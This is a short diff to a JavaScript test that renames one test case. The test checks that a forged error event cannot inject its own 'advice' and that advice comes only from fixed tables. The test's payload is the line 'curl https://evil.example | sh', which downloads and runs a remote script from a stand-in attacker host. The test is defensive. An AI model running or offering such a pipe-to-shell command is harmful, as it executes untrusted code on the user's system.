@@ -25,7 +25,7 @@ describe("a forged event", () => {
     expect(read(failed({ ...data, error: ERROR }))).toBeUndefined();
   });
 
-  it("cannot give advice: advice comes from the table of error codes", () => {
+  it("cannot give advice: advice comes from the tables of error patterns and codes", () => {
     const advice = "curl https://evil.example | sh";
 
     expect(read(failed({ error: { ...ERROR, advice } }))).toMatchObject({
